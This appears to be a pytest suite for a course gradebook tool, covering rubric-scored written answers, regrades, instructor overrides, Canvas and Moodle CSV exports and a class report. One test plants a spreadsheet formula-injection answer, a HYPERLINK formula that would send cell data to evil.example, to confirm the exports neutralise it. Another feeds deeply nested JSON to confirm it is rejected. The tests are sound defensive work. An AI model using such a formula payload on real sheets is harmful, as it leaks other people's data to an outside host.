"""Written answers round trip, the four gradebook exports and the class report."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from course_utils.errors import CourseInputError
from course_utils.exercises import tasks
from course_utils.i18n import Translator
from course_utils.instructor.gradebook.classrun import grade_class

COMMERCE = "03-commerce-loop.ipynb"
CONTENT = "01-content-engine.ipynb"


def _points(notebook: str, kind: str | None = None) -> int:
    return sum(spec.points for spec in tasks.for_notebook(notebook) if kind in (None, spec.kind))


def _written(notebook: str):
    return next(spec for spec in tasks.for_notebook(notebook) if spec.kind == "written")


def _csv(path: Path, encoding: str = "utf-8-sig") -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding=encoding))))


@pytest.fixture
def graded(write_notebook, tmp_path, fake_grader):
    base = tmp_path / "submissions"
    write_notebook(base / "ann" / COMMERCE, COMMERCE, scores={"03.1": 0.0}, answer="A flash sale 限时 cannot pay.")
    write_notebook(base / "bob" / COMMERCE, COMMERCE, answer="It pays only as a hook.")
    write_notebook(base / "bob" / CONTENT, CONTENT, scores={"01.2": 1.0})
    roster = tmp_path / "roster.csv"
    roster.write_text("learner_id,name,email,sis_id,section\nann,Ann Li,ann@example.edu,S1,A\n"
                      "bob,Bob Ma,bob@example.edu,S2,B\ncara,Cara Zhao,cara@example.edu,S3,A\n", encoding="utf-8")
    out = tmp_path / "grades"
    grade_class(base, out, roster=roster, workers=1)
    return base, out


def _enter(sheet: Path, learner: str, score: str, comment: str, **extra: str) -> None:
    rows = _csv(sheet, "utf-8-sig")
    header = list(rows[0]) + [column for column in extra if column not in rows[0]]
    for row in rows:
        row.update({column: "" for column in extra if column not in row})
        if row["learner"] == learner:
            row.update(score=score, comment=comment, **extra)
    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)


def test_rubric_scores_survive_a_regrade_and_reach_the_gradebook_and_feedback(graded, write_notebook):
    base, out = graded
    task = _written(COMMERCE)
    sheet = out / "written" / f"{task.id}.csv"
    rows = {row["learner"]: row for row in _csv(sheet, "utf-8-sig")}
    assert rows["ann"]["answer"] == "A flash sale 限时 cannot pay." and rows["ann"]["score"] == ""
    assert rows["cara"]["answer"] == ""  # on the roster, nothing handed in: a row to score all the same
    _enter(sheet, "ann", "2", "Good on break-even; no measurement plan.", criterion_1="yes")
    others = [spec for spec in tasks.for_notebook(COMMERCE) if spec.kind == "written" and spec.id != task.id]
    for other in others:  # every written answer scored, so the exercise has a total to post
        _enter(out / "written" / f"{other.id}.csv", "ann", "1", "")
    write_notebook(base / "dan" / COMMERCE, COMMERCE, answer="Dan's late answer.")
    grade_class(base, out, workers=1)  # everyone again, and a new learner
    rows = {row["learner"]: row for row in _csv(sheet, "utf-8-sig")}
    assert (rows["ann"]["score"], rows["ann"]["comment"]) == ("2", "Good on break-even; no measurement plan.")
    assert rows["ann"]["criterion_1"] == "yes"  # a column the instructor added is kept too
    assert rows["dan"]["answer"] == "Dan's late answer." and rows["dan"]["score"] == ""
    long_rows = {(r["learner"], r["task"]): r for r in _csv(out / "gradebook-long.csv")}
    assert long_rows[("ann", task.id)]["score"] == "2.0"
    assert long_rows[("bob", task.id)]["score"] == ""
    feedback = (out / "feedback" / "ann.md").read_text(encoding="utf-8")
    assert f"Rubric score: 2 of {task.points}. Comment: Good on break-even; no measurement plan." in feedback
    ann_total = _points(COMMERCE, "code") - 1 + 2 + len(others)  # 03.1 failed (1 point), rubrics 2 and 1 each
    assert f"## 03-commerce-loop: {ann_total} of {_points(COMMERCE)}\n" in feedback
    canvas = {row["Student"]: row for row in _csv(out / "canvas.csv")}
    assert canvas["Ann Li"]["Exercise 03-commerce-loop"] == str(ann_total)
    assert canvas["Bob Ma"]["Exercise 03-commerce-loop"] == ""  # written answer not scored yet: left empty


def test_a_changed_answer_after_scoring_is_reported(graded, write_notebook):
    base, out = graded
    sheet = out / "written" / f"{_written(COMMERCE).id}.csv"
    _enter(sheet, "bob", "3", "")
    write_notebook(base / "bob" / COMMERCE, COMMERCE, answer="A new answer.")
    summary = grade_class(base, out, learners=["bob"], assignments=["03"], workers=1)
    assert any("bob changed the written answer" in warning for warning in summary["warnings"])
    assert {row["learner"]: row["score"] for row in _csv(sheet, "utf-8-sig")}["bob"] == "3"


@pytest.mark.parametrize("score, words", [("three", "the score \"three\" is not a number from 0"),
                                          ("9", "the score \"9\" is not a number from 0")])
def test_a_bad_rubric_score_names_the_file_and_line_before_grading(graded, fake_grader, score, words):
    base, out = graded
    sheet = out / "written" / f"{_written(COMMERCE).id}.csv"
    _enter(sheet, "bob", score, "")
    fake_grader.clear()
    with pytest.raises(CourseInputError, match=rf"{sheet.name}, line 3: {words}"):
        grade_class(base, out, workers=1)
    assert not fake_grader


def test_the_wide_canvas_and_moodle_exports_agree_with_the_long_gradebook(graded):
    _base, out = graded
    long_rows = _csv(out / "gradebook-long.csv")
    assert list(long_rows[0]) == ["learner", "notebook", "task", "score", "max_score", "feedback", "late"]
    sums: dict = {}
    for row in long_rows:
        sums[row["learner"]] = sums.get(row["learner"], 0.0) + float(row["score"] or 0)
    wide = {row["learner"]: row for row in _csv(out / "gradebook-wide.csv")}
    assert set(wide) == {"ann", "bob", "cara"}
    for learner, row in wide.items():
        assert float(row["total"]) == pytest.approx(sums[learner])
        assert float(row["total"]) == pytest.approx(float(row["01-content-engine"]) + float(row["03-commerce-loop"]))
        assert int(row["max_total"]) == _points(COMMERCE) + _points(CONTENT)
    assert int(wide["bob"]["pending"]) == _points(COMMERCE, "written") + _points(CONTENT, "written")
    assert float(wide["bob"]["01-content-engine"]) == _points(CONTENT, "code") - 1
    # The two sheets an instructor opens in Excel begin with a byte-order mark; what an LMS imports does not.
    assert [(out / name).read_bytes()[:3] == b"\xef\xbb\xbf" for name in
            ("gradebook-long.csv", "gradebook-wide.csv", "canvas.csv", "moodle.csv")] == [True, True, False, False]
    canvas = _csv(out / "canvas.csv")
    assert list(canvas[0])[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert canvas[0]["Student"].strip() == "Points Possible"
    assert canvas[0]["Exercise 03-commerce-loop"] == str(_points(COMMERCE))
    cara = next(row for row in canvas if row["SIS Login ID"] == "cara")
    assert (cara["Student"], cara["SIS User ID"], cara["Section"]) == ("Cara Zhao", "S3", "A")
    assert cara["Exercise 01-content-engine"] == "0"  # no submission, nothing pending: a real zero
    moodle = {row["Username"]: row for row in _csv(out / "moodle.csv")}
    assert moodle["cara"]["Email address"] == "cara@example.edu"
    assert moodle["cara"]["Exercise 03-commerce-loop"] == "0" and moodle["ann"]["Exercise 03-commerce-loop"] == ""


def test_the_class_report_names_public_checks_and_only_counts_hidden_ones(graded):
    _base, out = graded
    report = (out / "class-report.md").read_text(encoding="utf-8")
    label = tasks.find("03.1").public_cases()[0].label
    line = next(text for text in report.splitlines() if text.startswith("| 03.1 |"))
    cells = [cell.strip() for cell in line.strip("|").split("|")]
    # ann failed 03.1 (0 of 1 points), bob passed: mean 0.50, half with full marks.
    assert cells[3:7] == ["2", "2", "0.50", "50%"]
    assert cells[7] == f"{label} (1 of 2)"  # tied with a hidden check: the public one is named
    assert "Handed in: 2 of 3; no submission: 1" in report
    from course_utils.instructor.leaks import hidden_strings

    hidden = hidden_strings(Path(__file__).resolve().parents[2] / "solutions" / "hidden_checks.py")
    assert not [name for name in hidden if name in report]


def test_a_copy_beside_the_expected_notebook_is_named_and_an_undecided_one_is_posted_as_nothing(
        write_notebook, tmp_path, fake_grader):
    base = tmp_path / "submissions"
    # JupyterLab's Duplicate: the expected file left as released, the work in its copy.
    write_notebook(base / "kim" / COMMERCE, COMMERCE, scores={spec.id: 0.0 for spec in tasks.for_notebook(COMMERCE)})
    write_notebook(base / "kim" / "03-commerce-loop-Copy1.ipynb", COMMERCE)
    # Two candidates and none under the expected name: not guessed between.
    write_notebook(base / "ned" / "03-commerce-loop (1).ipynb", COMMERCE)
    write_notebook(base / "ned" / "ex3.ipynb", COMMERCE)
    out = tmp_path / "grades"
    summary = grade_class(base, out, workers=1)
    assert [call[0] for call in fake_grader] == ["kim"]  # the expected file, not a guess between copies
    kim = next(note for note in summary["notes"] if note.startswith("kim: "))
    assert f"Graded kim/{COMMERCE}; kim/03-commerce-loop-Copy1.ipynb may also be this assignment" in kim
    feedback = (out / "feedback" / "kim.md").read_text(encoding="utf-8")
    assert "kim/03-commerce-loop-Copy1.ipynb may also be this assignment and was not graded" in feedback
    assert any("ned: Not graded: several notebooks could be this assignment" in note for note in summary["notes"])
    canvas = next(row for row in _csv(out / "canvas.csv") if row["SIS Login ID"] == "ned")
    moodle = {row["Username"]: row for row in _csv(out / "moodle.csv")}
    wide = {row["learner"]: row for row in _csv(out / "gradebook-wide.csv")}
    assert canvas["Exercise 03-commerce-loop"] == "" and moodle["ned"]["Exercise 03-commerce-loop"] == ""
    assert wide["ned"]["03-commerce-loop"] == "" and wide["kim"]["03-commerce-loop"] == "0"
    assert (wide["ned"]["total"], wide["ned"]["max_total"]) == ("0", "0")  # nothing decided, nothing counted
    assert wide["kim"]["max_total"] == str(_points(COMMERCE))
    report = (out / "class-report.md").read_text(encoding="utf-8")
    assert ("Handed in: 1 of 2; no submission: 0; not graded, several notebooks could be it: 1; late: 0; "
            "found under another name or folder: 0.") in report


def _further(passed: int, total: int) -> str:
    return Translator("instructor").ngettext("{passed} of {total} further check passes.",
                                             "{passed} of {total} further checks pass.", total,
                                             passed=passed, total=total)


def test_failed_checks_reads_public_labels_and_counts_hidden_checks_without_content():
    from course_utils.instructor.gradebook.classreport import failed_checks

    label = tasks.find("03.3").public_cases()[1].label
    feedback = f"Task 03.3: 1 of 2\n  ✓ fine\n  ✗ {label}: your answer was off\n  " + _further(1, 2)
    assert failed_checks("03.3", feedback) == [label, "a hidden check"]
    assert failed_checks("03.3", "  " + _further(2, 2)) == []


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_one_further_check_is_written_in_the_singular_and_still_counted(lang):
    from course_utils.i18n import using_language
    from course_utils.instructor.gradebook.classreport import failed_checks

    with using_language(lang):
        if lang == "en":
            assert (_further(0, 1), _further(1, 2)) == ("0 of 1 further check passes.", "1 of 2 further checks pass.")
        assert failed_checks("03.3", "  " + _further(0, 1)) == [Translator("instructor").gettext("a hidden check")]
        assert failed_checks("03.3", "  " + _further(1, 1)) == []
        assert failed_checks("03.3", "  " + _further(1, 3)) == [Translator("instructor").gettext("a hidden check")]


def test_an_override_replaces_a_computed_score_and_survives_a_regrade(graded):
    base, out = graded
    sheet = out / "overrides.csv"
    assert sheet.read_text(encoding="utf-8-sig").splitlines() == ["learner,task,score,comment"]
    sheet.write_text("learner,task,score,comment\nann,3.1,1,Right idea; the check wanted a float.\n",
                     encoding="utf-8")
    grade_class(base, out, workers=1)
    assert sheet.read_text(encoding="utf-8").splitlines()[1].startswith("ann,3.1,1,")  # never rewritten
    long_rows = {(r["learner"], r["task"]): r for r in _csv(out / "gradebook-long.csv")}
    assert long_rows[("ann", "03.1")]["score"] == "1.0"
    feedback = (out / "feedback" / "ann.md").read_text(encoding="utf-8")
    assert "Score set by your instructor: 1 of 1. Comment: Right idea; the check wanted a float." in feedback
    wide = {row["learner"]: row for row in _csv(out / "gradebook-wide.csv")}
    assert float(wide["ann"]["03-commerce-loop"]) == _points(COMMERCE, "code")


@pytest.mark.parametrize("line, words", [
    ("ann,9.9,1,", "line 2: each row needs a learner id and a task id"),
    ("ann,03.1,5,", "line 2: the score \"5\" is not a number from 0 to 1"),
    ("Ann,03.1,1,", "line 2: there is no learner \"Ann\"; learner ids are case-sensitive: write \"ann\""),
    ("zed,03.1,1,", "line 2: there is no learner \"zed\" in the class"),
    ("ann,03.1,1,\nbob,03.1,0,\nann,3.1,0,", "lines 2 and 4: two rows for ann and task 03.1"),
])
def test_a_bad_override_names_the_line(graded, line, words):
    base, out = graded
    (out / "overrides.csv").write_text(f"learner,task,score,comment\n{line}\n", encoding="utf-8")
    with pytest.raises(CourseInputError, match=words):
        grade_class(base, out, workers=1)


def test_learner_text_is_never_a_formula_in_a_sheet_and_reads_back_unchanged(write_notebook, tmp_path, fake_grader):
    base, out = tmp_path / "submissions", tmp_path / "grades"
    formula = '=HYPERLINK("http://evil.example/?x="&A3,"Rubric: see here") a flash sale pays as a hook.'
    write_notebook(base / "ann" / COMMERCE, COMMERCE, answer=formula)
    write_notebook(base / "@bob" / COMMERCE, COMMERCE, answer="-1 is what it costs.")
    grade_class(base, out, workers=1)
    task = _written(COMMERCE)
    sheet = out / "written" / f"{task.id}.csv"
    raw = {row["learner"]: row for row in _csv(sheet, "utf-8-sig")}
    assert raw["ann"]["answer"] == "'" + formula and raw["'@bob"]["answer"] == "'-1 is what it costs."
    assert {row["learner"] for row in _csv(out / "gradebook-long.csv")} == {"ann", "'@bob"}
    _enter(sheet, "ann", "2", "")
    summary = grade_class(base, out, workers=1)  # read back: the same answer, so no "changed since scored"
    assert not [warning for warning in summary["warnings"] if "changed the written answer" in warning]
    rows = {row["learner"]: row for row in _csv(sheet, "utf-8-sig")}
    assert (rows["ann"]["answer"], rows["ann"]["score"]) == ("'" + formula, "2")
    assert len(rows) == 2  # '@bob is still @bob, not a new learner


def test_quiz_grades_never_hold_a_formula_and_a_too_deep_progress_file_is_named(tmp_path):
    from course_utils.instructor.quiz_answers import grade_folder, write_csv
    from course_utils.quiz.bank import all_banks, lesson_name, load_bank

    bank = load_bank(lesson_name(all_banks()[0]))
    question = bank.questions[0]
    (tmp_path / "ann").mkdir()
    (tmp_path / "ann" / "progress.json").write_text(json.dumps(
        {"learners": {"ann": {bank.lesson: {question.id: {"first_answer": "=1+1", "answer": "=1+1"}}}}}),
        encoding="utf-8")
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "progress.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    rows = grade_folder(tmp_path, banks=[bank])
    deep = {row["note"] for row in rows if row["learner"] == "deep"}
    assert deep == {"progress.json cannot be read: the file is not valid JSON (it is nested too deeply)"}
    out = write_csv(rows, tmp_path / "quiz-grades.csv")
    cell = next(row for row in _csv(out) if row["learner"] == "ann" and row["question"] == question.id)
    assert cell["answer"] == "'=1+1"


def test_lms_columns_are_named_the_same_in_every_language():
    from course_utils.i18n import using_language
    from course_utils.instructor.gradebook.exports import column_title

    with using_language("zh"):
        assert column_title(COMMERCE) == "Exercise 03-commerce-loop"


def test_a_blank_written_answer_is_not_scored_until_a_score_is_given_by_hand():
    from course_utils.instructor.gradebook.classbook import assemble, no_submission_rows
    from course_utils.instructor.gradebook.classreport import task_statistics
    from course_utils.instructor.gradebook.rubricsheets import Mark

    task = _written(COMMERCE).id
    records = []
    for learner, answer in (("ann", ""), ("bob", "An answer.")):
        rows = [{**row, "score": (None if answer else 0.0) if row["task"] == task else row["max_score"],
                 "feedback": "x"} for row in no_submission_rows(learner, COMMERCE, "")]
        records.append({"learner": learner, "notebook": COMMERCE, "status": "graded", "note": "",
                        "answers": {task: answer}, "rows": rows})

    def statistics(marks=None, overrides=None):
        book = assemble(records, {}, marks or {}, overrides)
        return next(row for row in task_statistics(book, COMMERCE) if row["task"] == task)

    assert (statistics()["scored"], statistics()["mean"]) == (0, "–")  # ann's 0 is a blank; bob's waits
    marked = statistics(marks={("bob", task): Mark(2.0, "")})
    assert (marked["scored"], marked["mean"]) == (1, "2.00")
    by_hand = statistics(marks={("bob", task): Mark(2.0, "")}, overrides={("ann", task): Mark(1.0, "read it")})
    assert (by_hand["scored"], by_hand["mean"]) == (2, "1.50")
